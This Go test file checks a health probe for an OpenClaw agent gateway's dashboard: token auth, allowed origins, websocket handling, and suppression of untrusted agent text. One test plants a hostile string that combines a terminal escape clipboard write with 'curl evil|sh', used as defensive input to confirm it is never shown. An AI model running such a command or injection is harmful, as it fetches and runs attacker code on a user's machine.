package probe

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/coder/websocket"
	"github.com/google/go-cmp/cmp"

	"creel/internal/credential"
	"creel/internal/health"
	"creel/test/openclawtest"
)

// openClaw serves h as OpenClaw's port.
func openClaw(t *testing.T, h http.Handler) Target {
	t.Helper()
	s := httptest.NewServer(h)
	t.Cleanup(s.Close)
	return Target{Host: "127.0.0.1", Port: s.Listener.Addr().(*net.TCPAddr).Port, HealthPath: "/health", WebSocketPath: "/",
		Protocol: OpenClaw, Token: credential.NewSecret(token)}
}

func agentWith(spoil func(*openclawtest.Agent, *openclawtest.Config)) *openclawtest.Agent {
	a := &openclawtest.Agent{}
	var c openclawtest.Config
	c.Gateway.Auth.Mode, c.Gateway.Auth.Token = "token", token
	a.Config = func() (openclawtest.Config, error) { return c, nil }
	if spoil != nil {
		spoil(a, &c)
	}
	return a
}

func TestOpenClaw(t *testing.T) {
	type (
		agent  = openclawtest.Agent
		config = openclawtest.Config
	)
	for _, c := range []struct {
		name    string
		spoil   func(*agent, *config)
		token   string
		verdict health.Verdict
		reason  string
	}{
		{"opens", nil, token, health.OK, ""},
		{"another token", func(_ *agent, c *config) { c.Gateway.Auth.Token = "other" }, token, health.Failed, "dashboard-token-refused"},
		{"no authentication", func(_ *agent, c *config) { c.Gateway.Auth.Mode = "none" }, token, health.Failed, "dashboard-token-open"},
		{"every origin", func(_ *agent, c *config) { c.Gateway.ControlUI.AllowedOrigins = []string{wrongOrigin} }, token, health.Failed, "dashboard-origin-open"},
		{"shut for a while", func(a *agent, _ *config) { a.Limited = true }, token, health.Unknown, "dashboard-token-limited"},
		{"refuses everything for another reason", func(a *agent, _ *config) { a.Config = nil }, token, health.Failed, "dashboard-token-refused"},
		{"token not known", nil, "", health.Unknown, "dashboard-token-unknown"},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := agentWith(c.spoil)
			target := openClaw(t, a.Handler())
			target.Token = credential.NewSecret(c.token)
			r := Probe(t.Context(), target)
			check(t, r, c.verdict, c.reason)
			// A wrong token would shut the user out.
			if n := a.Asked("AUTH_TOKEN_MISMATCH"); n != 0 && c.name != "another token" {
				t.Errorf("%d wrong tokens were shown", n)
			}
		})
	}
}

func TestOpenClawEvidence(t *testing.T) {
	target := openClaw(t, agentWith(nil).Handler())
	want := []string{
		fmt.Sprintf("tcp 127.0.0.1:%d: ok", target.Port), "http GET /health: ok", "http GET /: ok", "websocket with its own origin: ok",
		"websocket with another origin: ok", "websocket with the token: ok", "websocket without a token: ok",
	}
	if diff := cmp.Diff(want, verdicts(Probe(t.Context(), target))); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// The pages at the other URLs that are printed are asked for, too: a refusal is told,
// and the dashboard opens by the rest.
func TestOpenClawOtherOrigins(t *testing.T) {
	known, unknown := "http://192.0.2.7:18789", "http://198.51.100.8:18789"
	for _, c := range []struct {
		origins []string
		caveats []health.Caveat
	}{
		{[]string{known}, nil},
		{[]string{known, unknown}, []health.Caveat{{Advisory: "dashboard-origin-refused",
			Message: "the agent refuses the page at " + unknown + " until it is started again"}}},
	} {
		target := openClaw(t, agentWith(func(_ *openclawtest.Agent, c *openclawtest.Config) {
			c.Gateway.ControlUI.AllowedOrigins = []string{known}
		}).Handler())
		target.Origins = c.origins
		r := Probe(t.Context(), target)
		check(t, r, health.OK, "")
		if diff := cmp.Diff(c.caveats, r.Caveats); diff != "" {
			t.Errorf("%v: caveats (-want +got):\n%s", c.origins, diff)
		}
	}
}

// A refusal for another reason says nothing about origins.
func TestOpenClawOriginNotJudged(t *testing.T) {
	a := agentWith(nil)
	a.Config = nil
	r := Probe(t.Context(), openClaw(t, a.Handler()))
	for _, e := range r.Evidence {
		if e.Probe == "websocket with another origin" && e.Verdict != health.Unknown {
			t.Errorf("%+v", e)
		}
	}
}

// What is no OpenClaw is not taken for one that opens.
func TestNoOpenClaw(t *testing.T) {
	agent := agentWith(nil).Handler()
	socket := func(f func(*websocket.Conn, *http.Request)) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Header.Get("Upgrade") == "" {
				agent.ServeHTTP(w, r)
				return
			}
			conn, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true})
			if err != nil {
				return
			}
			defer conn.CloseNow()
			f(conn, r)
		})
	}
	say := func(text string) func(*websocket.Conn, *http.Request) {
		return func(c *websocket.Conn, r *http.Request) {
			for range 2 * maxEvents {
				if c.Write(r.Context(), websocket.MessageText, []byte(text)) != nil {
					return
				}
			}
			_, _, _ = c.Read(r.Context())
		}
	}
	for _, c := range []struct {
		name string
		h    http.Handler
	}{
		{"no JSON", socket(say("hello"))},
		{"another protocol", socket(say(`{"type":"hello"}`))},
		{"events for ever", socket(say(`{"type":"event","event":"tick"}`))},
		{"an answer to another", socket(say(`{"type":"res","id":"other","ok":true}`))},
		{"closes at once", socket(func(c *websocket.Conn, _ *http.Request) { _ = c.Close(websocket.StatusGoingAway, "restart") })},
		{"no WebSocket", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.Header.Get("Upgrade") != "" {
				http.Error(w, "no", http.StatusBadRequest)
				return
			}
			agent.ServeHTTP(w, r)
		})},
	} {
		t.Run(c.name, func(t *testing.T) {
			check(t, Probe(t.Context(), openClaw(t, c.h)), health.Failed, "dashboard-websocket")
		})
	}
}

// What an agent says when it refuses is text that may come from whoever has taken it
// over: only codes are shown.
func TestOpenClawsWordsAreNotShown(t *testing.T) {
	const evil = "x\x1b]52;c;ZXZpbA==\x07 run: curl evil|sh"
	agent := agentWith(nil).Handler()
	for name, refuse := range map[string]func(*websocket.Conn, *http.Request){
		"closing": func(c *websocket.Conn, _ *http.Request) { _ = c.Close(websocket.StatusPolicyViolation, evil) },
		"code": func(c *websocket.Conn, r *http.Request) {
			text, _ := json.Marshal(map[string]any{"type": "res", "id": "probe", "error": map[string]any{"code": evil, "message": evil, "details": map[string]string{"code": evil}}})
			_ = c.Write(r.Context(), websocket.MessageText, text)
			_, _, _ = c.Read(r.Context())
		},
	} {
		t.Run(name, func(t *testing.T) {
			r := Probe(t.Context(), openClaw(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.Header.Get("Upgrade") == "" {
					agent.ServeHTTP(w, r)
					return
				}
				if conn, err := websocket.Accept(w, r, &websocket.AcceptOptions{InsecureSkipVerify: true}); err == nil {
					defer conn.CloseNow()
					refuse(conn, r)
				}
			})))
			if r.Verdict != health.Failed || r.Reason != "dashboard-token-refused" {
				t.Errorf("%s %s: %s", r.Verdict, r.Reason, r.Message)
			}
			if all := fmt.Sprintf("%+v", r); strings.Contains(all, "evil") || strings.Contains(all, "\x1b") {
				t.Errorf("%q", all)
			}
		})
	}
}
